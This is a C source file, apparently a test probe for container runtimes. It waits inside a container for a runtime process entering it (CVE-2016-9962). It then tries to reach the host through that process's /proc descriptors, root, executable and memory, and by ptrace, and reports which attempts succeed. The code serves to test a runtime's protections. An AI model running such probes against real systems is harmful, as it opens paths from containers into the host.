/*
 * stalk NAME - waits inside a container for a process of the runtime on its way
 * in (CVE-2016-9962): by its descriptors, through its memory or by ptrace(2),
 * the host is reached. It must not be dumpable: prctl(2) PR_SET_DUMPABLE, and
 * ptrace(2) on access modes.
 *
 * Of the first that it meets and that is still there at the end it tells all
 * answers, of the others only what worked: on its way in a process changes, and
 * one moment is enough.
 */
#include "attack.h"

#include <sys/ptrace.h>
#include <sys/wait.h>

static bool is_called(int pid, const char *name)
{
    char path[64], comm[64] = {0};
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY);
    ssize_t n = read(fd, comm, sizeof comm - 1);
    close(fd);
    return n > 0 && strncmp(comm, name, strlen(name)) == 0;
}

static const struct {
    const char *file; /* NULL: it is traced */
    int flags;
} ways[] = {
    {"fd/0", O_RDONLY},
    {"root", O_RDONLY},
    {"exe",  O_RDONLY},
    {"mem",  O_RDWR  },
    {NULL,   0       },
};
enum { WAYS = sizeof ways / sizeof ways[0] };

struct prey {
    int pid;
    const char *name;
    int errors[WAYS]; /* 0: it worked */
};

static int open_of(int pid, const char *file, int flags)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, file);
    int fd = open(path, flags);
    int error = fd < 0 ? errno : 0;
    close(fd);
    return error;
}

/* What worked counts if it was not another program by then. */
static void attack(struct prey *prey)
{
    int pid = prey->pid;
    bool traced = false;
    for (size_t i = 0; i < WAYS; i++) {
        int *error = &prey->errors[i];
        if (ways[i].file != NULL)
            *error = open_of(pid, ways[i].file, ways[i].flags);
        else
            *error = ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0 ? errno : 0;
        traced |= *error == 0 && ways[i].file == NULL;
        if (*error == 0 && !is_called(pid, prey->name))
            *error = ESRCH;
    }
    if (traced) { /* only who has stopped can be let go */
        ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
    }
}

static void tell(const struct prey *prey, bool all)
{
    for (size_t i = 0; i < WAYS; i++) {
        errno = prey->errors[i];
        if (all || errno == 0)
            attack_answer(ways[i].file == NULL ? "ptrace" : ways[i].file,
                          errno == 0 ? 0 : -1);
    }
}

/* Numbers are given out in order, so the next one is near ours. */
int main(int argc, char **argv)
{
    bool has_told = false;
    while (argc == 2) {
        for (int pid = 2; pid < 400; pid++) {
            if (!is_called(pid, argv[1]))
                continue;
            struct prey prey = {.pid = pid, .name = argv[1]};
            attack(&prey);
            bool is_there = is_called(pid, argv[1]);
            tell(&prey, is_there && !has_told);
            has_told |= is_there;
        }
        usleep(500); /* on one processor the prey has to have its turn, too */
    }
    return 2;
}
